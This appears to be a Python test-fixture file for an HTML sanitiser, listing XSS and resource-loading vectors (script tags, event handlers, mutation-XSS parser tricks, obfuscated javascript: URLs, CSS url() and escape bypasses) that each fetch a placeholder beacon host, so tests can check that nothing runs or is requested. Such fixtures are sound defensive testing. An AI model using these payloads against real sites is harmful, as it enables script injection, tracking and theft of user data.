"""What people hide in HTML: code that wants to run, and addresses that want to be asked for.

``{beacon}`` is where it would be noticed.
"""

#: Nothing of these may run, or ask for anything, whatever is allowed.
SCRIPTS = (
    "<script>fetch('{beacon}/s1')</script>",
    "<img src=x onerror=\"fetch('{beacon}/s2')\">",
    "<svg onload=\"fetch('{beacon}/s3')\"><script>fetch('{beacon}/s3b')</script></svg>",
    '<iframe srcdoc="<script>parent.fetch(\'{beacon}/s4\')</script>" src="{beacon}/s4"></iframe>',
    '<meta http-equiv="refresh" content="0;url={beacon}/s5">',
    '<base href="{beacon}/"><script src="s6.js"></script>',
    '<object data="{beacon}/s7"><embed src="{beacon}/s7b"></object>',
    '<form action="{beacon}/s8" id=f><input name=q autofocus onfocus="this.form.submit()">'
    "<button>OK</button></form>",
    "<a href=\"java\tscript:fetch('{beacon}/s9')\" id=go>lien</a>",
    "<a href=\"&#106;avascript&colon;fetch('{beacon}/s10')\">lien</a>",
    "<details open ontoggle=\"fetch('{beacon}/s11')\"><summary>x</summary>y</details>",
    "<video><source onerror=\"fetch('{beacon}/s12')\" src=x></video>",
    "<math><mtext><table><mglyph><style><!--</style>"
    "<img title=\"--&gt;&lt;img src=1 onerror=fetch('{beacon}/s13')&gt;\">",
    "<noscript><p title=\"</noscript><img src=x onerror=fetch('{beacon}/s14')>\"></noscript>",
    "<template><img src=x onerror=\"fetch('{beacon}/s15')\"></template>",
    "<!--><script>fetch('{beacon}/s16')</script>-->",
    "<!--[if !mso]><!--><script>fetch('{beacon}/s17')</script><!--<![endif]-->",
    "<div style=\"width:expression(fetch('{beacon}/s18'))\">large</div>",
    "<a href=\"data:text/html,<script>fetch('{beacon}/s19')</script>\">lien</a>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'>"
    "<image href='1' onerror='fetch(&quot;{beacon}/s20&quot;)'/></svg>#x\"></use></svg>",
    "<textarea><img title=\"</textarea><img src=x onerror=fetch('{beacon}/s21')>\"></textarea>",
    "<<script>script>fetch('{beacon}/s22')<</script>/script>",
    "<img src=\"javascript:fetch('{beacon}/s23')\">",
    "<p onmouseover=fetch('{beacon}/s24') onclick=\"fetch('{beacon}/s24b')\">survol</p>",
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+">',
    "<xmp><p title=\"</xmp><script>fetch('{beacon}/s26')</script>\"></xmp>",
)
#: Nothing of these may be asked for, whatever is allowed: nobody would see it.
CALLS = (
    '<link rel="stylesheet" href="{beacon}/c1"><link rel="prefetch" href="{beacon}/c1b">',
    "<style>@import url({beacon}/c2); p{background:url({beacon}/c2b)}</style>",
    "<style>@font-face{font-family:x;src:url({beacon}/c3)}p{font-family:x}</style><p>x</p>",
    '<p style="list-style-image:url({beacon}/c4);cursor:url({beacon}/c4b),auto">x</p>',
    '<p style="b\\61 ckground:u\\72l({beacon}/c5)">x</p>',
    '<p style="border-image:url({beacon}/c6);content:url({beacon}/c6b)">x</p>',
    '<svg><image href="{beacon}/c7" width="9" height="9"/></svg>',
    '<input type="image" src="{beacon}/c8">',
    '<audio src="{beacon}/c9" autoplay></audio><track src="{beacon}/c9b">',
    "<p style=\"background-image:image-set('{beacon}/c10' 1x)\">x</p>",
    '<a href="https://example.com/" ping="{beacon}/c11">lien</a>',
    '<p style="--x:url({beacon}/c12);background:var(--x)">x</p>',
)
#: Images: asked for when they are allowed, not before.
IMAGES = (
    '<img src="{beacon}/i1.png" width="20" height="20">',
    '<img srcset="{beacon}/i2.png 1x, {beacon}/i2b.png 2x">',
    '<picture><source srcset="{beacon}/i3b.png"><img src="{beacon}/i3.png"></picture>',
    '<table background="{beacon}/i4.png"><tr><td>fond</td></tr></table>',
    '<div style="background:#fff url({beacon}/i5.png) no-repeat">fond</div>',
    "<div style=\"background-image: url('{beacon}/i6.png')\">fond</div>",
    '<video poster="{beacon}/i7.png" controls></video>',
    '<body background="{beacon}/i8.png"><p>fond</p></body>',
    '<img src=" {beacon}/i9.png ">',
    '<img src="x" src="y" data-src="{beacon}/no"><img SRC={beacon}/i10.png>',
)


def fill(vector: str, beacon: str) -> str:
    return vector.replace("{beacon}", beacon)
